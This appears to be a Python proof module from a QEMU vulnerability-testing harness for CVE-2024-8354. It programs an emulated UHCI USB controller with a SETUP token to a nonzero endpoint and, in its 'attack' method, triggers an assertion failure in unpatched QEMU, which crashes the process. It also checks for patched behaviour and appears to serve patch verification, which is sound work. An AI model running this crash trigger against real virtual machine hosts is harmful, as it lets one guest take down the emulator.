"""CVE-2024-8354: a SETUP token to an endpoint other than 0 runs into an assertion."""
import time

from harness.vm import SCRATCH

from .base import NEW, OLD, Proof, ProofError

SLOT = 0x10
COMMAND, STATUS, FRAME_BASE, PORT1 = 0x00, 0x02, 0x08, 0x10
RUN, RESET = 1 << 0, 1 << 1
STATUS_ERROR, STATUS_PROCESS_ERROR = 1 << 1, 1 << 4
PORT_CONNECTED, PORT_ENABLE, PORT_RESET = 1 << 0, 1 << 2, 1 << 9

FRAMES = SCRATCH
TRANSFER = SCRATCH + 0x2000
BUFFER = SCRATCH + 0x3000
TERMINATE = 1
ACTIVE = 1 << 23
TOKEN_SETUP = 0x2D
NO_SUCH_DEVICE = 5


class Uhci(Proof):
    shows = "a SETUP token to endpoint 1 stops the controller (process error), before: USB error"
    function = "uhci_handle_td"

    def arguments(self, directory, guests):
        return ["-device", f"piix3-usb-uhci,id=uhci,addr={SLOT:#x}"]

    def prepare(self, vm):
        self.port = vm.qtest.pci(SLOT).bar(4)

    def _setup_token(self, vm, device):
        """Let the controller run a frame list that holds only this token."""
        qtest = vm.qtest
        qtest.store_words(TRANSFER, TERMINATE, ACTIVE, 7 << 21 | 1 << 15 | device << 8 | TOKEN_SETUP, BUFFER)
        qtest.store_words(FRAMES, *[TRANSFER] * 1024)
        qtest.out("w", self.port + STATUS, 0xFFFF)
        qtest.out("l", self.port + FRAME_BASE, FRAMES)
        qtest.out("w", self.port + COMMAND, RUN)
        time.sleep(0.1)
        status = qtest.in_("w", self.port + STATUS)
        qtest.out("w", self.port + COMMAND, 0)
        return status

    def observe(self, vm):
        vm.qtest.out("w", self.port + COMMAND, RESET)
        status = self._setup_token(vm, NO_SUCH_DEVICE)
        if status & STATUS_PROCESS_ERROR:
            return NEW
        if status & STATUS_ERROR:
            return OLD
        raise ProofError(f"UHCI status is {status:#x}")

    def attack(self, vm):
        """The same to a device that exists: the old code fails an assertion."""
        vm.qmp("device_add", driver="usb-tablet", id="tablet", bus="uhci.0", port="1")
        vm.qtest.out("w", self.port + COMMAND, RESET)
        for state in (PORT_RESET, 0, PORT_ENABLE):
            vm.qtest.out("w", self.port + PORT1, state)
        if not vm.qtest.in_("w", self.port + PORT1) & PORT_CONNECTED:
            raise ProofError("the USB device is not connected")
        status = self._setup_token(vm, 0)
        if not status & STATUS_PROCESS_ERROR:
            raise ProofError(f"UHCI status is {status:#x}")
        vm.qmp("device_del", id="tablet")
        return "a SETUP token to endpoint 1 of a real device"
